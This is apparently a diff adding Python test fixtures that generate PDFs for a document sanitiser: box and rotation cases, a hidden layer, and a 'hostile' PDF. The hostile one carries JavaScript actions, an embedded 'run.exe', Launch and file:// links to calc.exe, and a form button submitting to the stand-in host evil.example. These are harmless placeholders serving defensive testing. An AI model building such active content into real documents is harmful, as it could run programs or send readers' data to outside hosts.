@@ -203,3 +203,154 @@ def write(tmp: Path, name: str, data: bytes) -> Path:
     path = tmp / name
     path.write_bytes(data)
     return path
+
+
+RED = (1.0, 0.0, 0.0)
+BLUE = (0.0, 0.0, 1.0)
+
+
+def boxed_pdf(
+    media: tuple[float, float, float, float],
+    crop: tuple[float, float, float, float] | None = None,
+    trim: tuple[float, float, float, float] | None = None,
+    rotate: int = 0,
+    unit: float = 1.0,
+    inherit: bool = False,
+) -> bytes:
+    """One page whose author sees only a blue block: everything outside the visible box
+    (crop box within media box) is a red bar, including content off the media box.
+
+    ``inherit`` puts the boxes and /Rotate on the /Pages node, as some producers do."""
+    import pikepdf
+
+    x0, y0, x1, y1 = crop or media
+    w, h = x1 - x0, y1 - y0
+    blue = f"{BLUE[0]} {BLUE[1]} {BLUE[2]} rg "
+    blue += f"{x0 + w * 0.3} {y0 + h * 0.3} {w * 0.4} {h * 0.4} re f"
+    red = f"{RED[0]} {RED[1]} {RED[2]} rg "
+    bars = [  # just outside each edge of the visible box, and off the media box entirely
+        f"{x0 - 40} {y0 + 10} 35 {h - 20} re",
+        f"{x1 + 5} {y0 + 10} 35 {h - 20} re",
+        f"{x0 + 10} {y0 - 40} {w - 20} 35 re",
+        f"{x0 + 10} {y1 + 5} {w - 20} 35 re",
+        f"{media[0] + 10} {media[1] - 60} {w - 20} 40 re",
+    ]
+    content = (blue + "\n" + red + " ".join(bars) + " f\n").encode()
+    pdf = pikepdf.new()
+    page = pikepdf.Dictionary(
+        Type=pikepdf.Name.Page,
+        Contents=pdf.make_stream(content),
+        Resources=pikepdf.Dictionary(),
+    )
+    boxes: dict[str, Any] = {"/MediaBox": pikepdf.Array(list(media))}
+    if crop:
+        boxes["/CropBox"] = pikepdf.Array(list(crop))
+    if rotate:
+        boxes["/Rotate"] = rotate
+    if trim:
+        page.TrimBox = pikepdf.Array(list(trim))
+    if unit != 1:
+        page.UserUnit = unit
+    pdf.pages.append(pikepdf.Page(page))
+    target = pdf.Root.Pages if inherit else pdf.pages[0].obj
+    for key, value in boxes.items():
+        target[key] = value
+    if inherit:
+        pdf.pages[0].obj.MediaBox = pikepdf.Array(list(media))  # qpdf insists on its own
+        target.MediaBox = pikepdf.Array(list(media))
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def hostile_pdf() -> bytes:
+    """A paper carrying every kind of active content an author's PDF can hold, plus a web
+    link and a link to its own second page that should survive."""
+    import pikepdf
+
+    pdf = pikepdf.open(io.BytesIO(pdf_bytes(2, A4, "Hostile", edge_text=False)))
+    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hi')"))
+    pdf.Root.OpenAction = pdf.make_indirect(js)
+    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
+    embedded = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="run.exe")
+    pdf.attachments["run.exe"] = embedded
+    names = pdf.Root.Names
+    names.JavaScript = pikepdf.Dictionary(
+        Names=pikepdf.Array([pikepdf.String("start"), pdf.make_indirect(js)])
+    )
+    first = pdf.pages[0].obj
+    first.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="2"))
+
+    def annot(**kw: Any) -> Any:
+        return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, **kw))
+
+    rect = pikepdf.Array([100, 400, 300, 420])
+    button = annot(
+        Subtype=pikepdf.Name.Widget,
+        FT=pikepdf.Name.Btn,
+        T=pikepdf.String("send"),
+        Rect=pikepdf.Array([100, 500, 200, 520]),
+        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
+    first.Annots = pikepdf.Array(
+        [
+            annot(
+                Subtype=pikepdf.Name.Link,
+                Rect=rect,
+                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
+            ),
+            annot(
+                Subtype=pikepdf.Name.Link,
+                Rect=pikepdf.Array([100, 300, 300, 320]),
+                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://nhs.uk/")),
+            ),
+            annot(
+                Subtype=pikepdf.Name.Link,
+                Rect=pikepdf.Array([100, 250, 300, 270]),
+                A=pikepdf.Dictionary(
+                    S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/calc.exe")
+                ),
+            ),
+            annot(
+                Subtype=pikepdf.Name.Link,
+                Rect=pikepdf.Array([100, 200, 300, 220]),
+                Dest=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]),
+            ),
+            button,
+            annot(
+                Subtype=pikepdf.Name.FileAttachment,
+                Rect=pikepdf.Array([400, 700, 420, 720]),
+                FS=embedded.obj,
+            ),
+        ]
+    )
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def hidden_layer_pdf() -> bytes:
+    """A page with a blue block, and a red one on a layer (optional content group) the
+    author's viewer hides by default."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    layer = pdf.make_indirect(
+        pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("Draft comments"))
+    )
+    content = b"0 0 1 rg 200 300 200 200 re f\n/OC /Hidden BDC 1 0 0 rg 100 600 300 100 re f EMC\n"
+    page = pikepdf.Dictionary(
+        Type=pikepdf.Name.Page,
+        MediaBox=pikepdf.Array([0, 0, 595, 842]),
+        Contents=pdf.make_stream(content),
+        Resources=pikepdf.Dictionary(Properties=pikepdf.Dictionary(Hidden=layer)),
+    )
+    pdf.pages.append(pikepdf.Page(page))
+    pdf.Root.OCProperties = pikepdf.Dictionary(
+        OCGs=pikepdf.Array([layer]),
+        D=pikepdf.Dictionary(OFF=pikepdf.Array([layer]), Order=pikepdf.Array([layer])),
+    )
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
